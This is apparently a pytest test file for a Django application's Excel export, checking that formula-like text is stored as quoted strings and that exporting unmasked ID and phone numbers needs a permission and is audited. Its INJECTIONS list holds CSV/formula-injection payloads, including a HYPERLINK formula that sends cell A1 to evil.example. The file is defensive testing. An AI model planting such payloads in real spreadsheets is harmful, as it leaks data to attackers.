"""Exports: text that looks like a formula stays text; numbers stay masked unless unmasked."""

import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from qinqing.core.exporting import workbook_bytes
from qinqing.core.models import AuditEntry, Enterprise
from tests.conftest import client_for
from tests.test_pages import grant_unmasking, workbook_rows

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_text_that_starts_like_a_formula_is_written_as_quoted_text(users, regions):
    sheet = _sheet(workbook_bytes(["内容", "数值"], [[text, -5] for text in INJECTIONS]))

    for row, text in zip(sheet.iter_rows(min_row=2), INJECTIONS, strict=True):
        cell, number = row
        # XML parsers (Excel's too) read a raw CR as LF; the text is otherwise intact.
        assert cell.value == text.replace("\r", "\n")
        assert cell.data_type == "s"  # a string cell, not "f" (formula)
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
        assert number.value == -5 and number.data_type == "n"


def test_no_formula_element_is_written_into_the_sheet(users):
    content = workbook_bytes(["内容"], [[text] for text in INJECTIONS])

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_an_enterprise_named_like_a_formula_exports_as_text(users, regions, enterprise):
    Enterprise.objects.filter(pk=enterprise.pk).update(name='=HYPERLINK("http://x","y")')

    response = client_for(users["admin"]).get(reverse("enterprise-list"), {"export": "xlsx"})

    sheet = _sheet(response.content)
    assert sheet["A2"].value == '=HYPERLINK("http://x","y")'
    assert sheet["A2"].data_type == "s"


def test_the_header_row_is_frozen_and_columns_fit_their_content(users):
    long_text = "很长的走访情况" * 30
    sheet = _sheet(workbook_bytes(["名称", "说明", "数"], [["竹马水泥建材有限公司", long_text, 1]]))

    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    widths = {col: sheet.column_dimensions[col].width for col in "ABC"}
    assert widths["A"] >= 20  # ten CJK characters are twenty columns wide
    assert widths["B"] == 60  # capped
    assert widths["C"] == 8  # at least the minimum


def test_people_export_in_full_needs_the_permission(users, local_person):
    client = client_for(users["staff"])

    response = client.get(reverse("person-list"), {"export": "xlsx", "numbers": "full"})

    assert response.status_code == 403
    assert not AuditEntry.objects.filter(additional_data__event="export_personal_data").exists()


def test_a_holder_of_the_permission_exports_full_numbers_and_it_is_audited(users, person):
    admin = grant_unmasking(users["admin"])
    client = client_for(admin)

    list_page = client.get(reverse("person-list")).content.decode()
    assert "导出 Excel（含完整号码）" in list_page
    rows = workbook_rows(
        client.get(reverse("person-list"), {"q": "蔡", "export": "xlsx", "numbers": "full"})
    )

    header, row = rows[0], rows[1]
    assert row[header.index("身份证号")] == person.id_number
    assert row[header.index("手机号")] == person.phone
    entry = AuditEntry.objects.get(additional_data__event="export_personal_data")
    assert entry.actor == admin
    assert entry.additional_data["rows"] == 1
    assert entry.additional_data["filters"] == "q=%E8%94%A1"
    assert "导出敏感信息" in client.get(reverse("audit-list")).content.decode()


def test_the_plain_people_export_stays_masked_for_a_holder_of_the_permission(users, person):
    client = client_for(grant_unmasking(users["admin"]))

    rows = workbook_rows(client.get(reverse("person-list"), {"export": "xlsx"}))

    assert person.id_number not in str(rows) and person.phone not in str(rows)
    assert not AuditEntry.objects.filter(additional_data__event="export_personal_data").exists()
